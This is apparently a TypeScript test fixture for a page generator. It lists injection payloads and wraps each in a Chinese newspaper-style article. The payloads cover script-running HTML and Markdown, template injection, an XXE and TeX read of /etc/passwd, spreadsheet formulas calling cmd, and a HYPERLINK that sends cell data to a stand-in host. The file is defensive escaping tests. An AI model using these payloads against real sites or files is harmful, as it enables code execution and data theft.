/** What a printed page may hold that a browser, a template, Markdown, a spreadsheet or a citation manager takes for its own. */

/** Sets the mark that must never be set. */
const RUN = "window.hostile=1";
const FAR = "https://hostile.invalid";

/** Each becomes a page: in its headline, its byline and its paragraphs. */
export const TEXTS: readonly { name: string; text: string }[] = [
  // ---- elements and attributes
  { name: "script", text: `<script>${RUN}</script>` },
  { name: "script of another host", text: `<script src="${FAR}/a.js"></script>` },
  { name: "script in capitals, unclosed", text: `<SCRIPT>${RUN}//` },
  { name: "script in halves", text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: "image with a handler", text: `<img src=x onerror=${RUN}>` },
  { name: "image without spaces", text: `<img/src=x/onerror=${RUN}>` },
  { name: "drawing with a handler", text: `<svg onload=${RUN}>` },
  { name: "drawing with a script", text: `<svg><script>${RUN}</script></svg>` },
  { name: "frame", text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>` },
  { name: "object", text: `<object data="data:text/html,<script>parent.${RUN}</script>">` },
  { name: "focus", text: `<input autofocus onfocus=${RUN}>` },
  { name: "details", text: `<details open ontoggle=${RUN}>` },
  { name: "animation", text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>` },
  { name: "video", text: `<video><source onerror=${RUN}></video>` },
  { name: "refresh", text: `<meta http-equiv="refresh" content="0;url=${FAR}">` },
  { name: "base", text: `<base href="${FAR}/">` },
  { name: "stylesheet", text: `<link rel=stylesheet href="${FAR}/a.css">` },
  { name: "style", text: `<style>body{background:url(${FAR}/a)}</style>` },
  { name: "form", text: `<form action="${FAR}"><button>` },
  { name: "dangling markup", text: `<img src='${FAR}/?` },
  { name: "noscript", text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: "mathematics", text: `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>` },
  { name: "template element", text: `<template><script>${RUN}</script></template>` },
  // ---- out of where it stands
  { name: "out of an attribute", text: `" onmouseover="${RUN}" x="` },
  { name: "out of a single-quoted attribute", text: `' onfocus='${RUN}' autofocus='` },
  { name: "out of a title", text: `</title><script>${RUN}</script>` },
  { name: "out of a script", text: `</script><script>${RUN}</script>` },
  { name: "out of JSON", text: `"}];${RUN}//</script><!--` },
  { name: "out of a comment", text: `--><script>${RUN}</script><!--` },
  { name: "comment that never ends", text: "<!-- <script" },
  { name: "comment of the site's own", text: "<!--/online--><!--online-->" },
  { name: "CDATA", text: `<![CDATA[<script>${RUN}</script>]]>` },
  { name: "doctype", text: `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;` },
  { name: "processing instruction", text: `<?php ${RUN} ?><?xml version="1.0"?>` },
  { name: "character references", text: `&lt;script&gt;${RUN}&lt;/script&gt;&#60;b&#62;` },
  { name: "references without a semicolon", text: "&ltscript&gt &amp &copy &#x3c" },
  // ---- Markdown
  { name: "link that runs", text: `[按这里](javascript:${RUN})` },
  { name: "link that runs, in disguise", text: `[按](java\tscript:${RUN}) [按](&#106;avascript:${RUN})` },
  { name: "link of data", text: `[按](data:text/html,<script>${RUN}</script>)` },
  { name: "link of vbscript and file", text: "[按](vbscript:msgbox) [按](file:///etc/passwd)" },
  { name: "image of another host", text: `![图](${FAR}/pixel.png)` },
  { name: "autolink", text: `<javascript:${RUN}> <${FAR}> ${FAR}` },
  { name: "reference", text: `[按][1]\n[1]: javascript:${RUN}` },
  { name: "code that ends", text: `\`\`\`html\n<script>${RUN}</script>\n\`\`\`` },
  { name: "marks", text: "**星** __线__ ~~删~~ `码` # > - + 1. | --- | === ***" },
  { name: "many brackets", text: "[".repeat(3000) },
  { name: "many stars", text: "*甲".repeat(1500) },
  { name: "many quotations", text: "> ".repeat(1500) },
  { name: "many backslashes", text: "\\".repeat(3001) },
  { name: "front matter in the text", text: `---\ntitle: 假的\n---\n---js\n${RUN}\n---` },
  // ---- templates
  { name: "Nunjucks", text: "{{ 7 * 191 }}{% raw %}{# 注 #}{% include 'layout.njk' %}" },
  { name: "Nunjucks that reaches for code", text: `{{ range.constructor("${RUN}")() }}` },
  { name: "Liquid and shortcodes", text: "{% render 'x' %}{% css %}{{ site | json }}" },
  { name: "other templates", text: "${7*191} #{7*191} <%= 7*191 %> [[ 7*191 ]] {{{ 7*191 }}}" },
  { name: "replacement patterns", text: "$& $1 $` $' $$ %s %d %n" },
  // ---- names that programs know
  { name: "names of prototypes", text: "__proto__ constructor toString hasOwnProperty prototype" },
  { name: "values of programs", text: "null undefined NaN Infinity true false -0 1e999" },
  // ---- spreadsheets, citations, feeds
  { name: "formula", text: `=HYPERLINK("${FAR}?"&A1,"按")` },
  { name: "formula by plus and minus", text: "+1+cmd|' /C calc'!A0" },
  { name: "formula by minus", text: "-2+3+cmd|' /C calc'!A0" },
  { name: "formula by at", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "formula in full width", text: `＝HYPERLINK("${FAR}")` },
  { name: "cell that ends", text: '","=1+1","' },
  { name: "RIS that ends", text: "ER  - \nTY  - JOUR\nTI  - 假的" },
  { name: "BibTeX that ends", text: "}}, @article{fake, title={假的" },
  { name: "TeX", text: "\\input{/etc/passwd} $x$ % # & ~ ^ _ \\write18{ls}" },
  { name: "XML that ends", text: "]]></title></entry></feed><entry>" },
  { name: "headers", text: "\r\nSet-Cookie: a=1\r\n\r\n<script>" },
  // ---- characters
  { name: "control characters", text: "甲\x00乙\x01丙\x08丁\x0b戊\x1b[31m己\x7f庚\x9b31m" },
  {
    name: "terminal sequences",
    text: "\x1b]0;假的\x07\x1b[2J\x1b]8;;https://hostile.invalid\x07按\x1b]8;;\x07",
  },
  { name: "writing from right to left", text: "甲\u202e乙丙\u202c丁\u2066戊\u2067己\u2069\u200f\u061c" },
  { name: "unseen characters", text: "甲\u200b乙\u200c丙\u200d丁\u2060戊\ufeff己\u00ad庚\u{e0041}\ufe0f" },
  { name: "separators of lines", text: "甲\u2028乙\u2029丙\u0085丁\f戊\v己" },
  { name: "no characters", text: "甲\ufffe乙\uffff丙\u{1ffff}丁\ufdd0" },
  { name: "marks upon marks", text: `甲${"\u0300".repeat(500)}乙` },
  { name: "a word that never ends", text: "甲".repeat(4000) },
  { name: "a word in letters that never ends", text: "a".repeat(4000) },
  { name: "one family a thousand times", text: "👨‍👩‍👧‍👦".repeat(1000) },
];

/** A page of which the reader is to take the text for a headline, a byline and paragraphs. */
export const pageWith = (text: string, number: number): string =>
  `第${number}号原稿照样排${text}

□记者 周航${text.slice(0, 40)} 报道

本报淄博5月11日讯 排字工人收到第${number}号原稿，上面写着${text}，他一个字符也不改，照样排了出来。

${text}

老排字工人看了说，原稿怎样就怎样印，印错一个记号也要重来，这是印刷厂三十年的规矩。

图为排字工人在看原稿${text.slice(0, 60)}。 周航 摄
`;
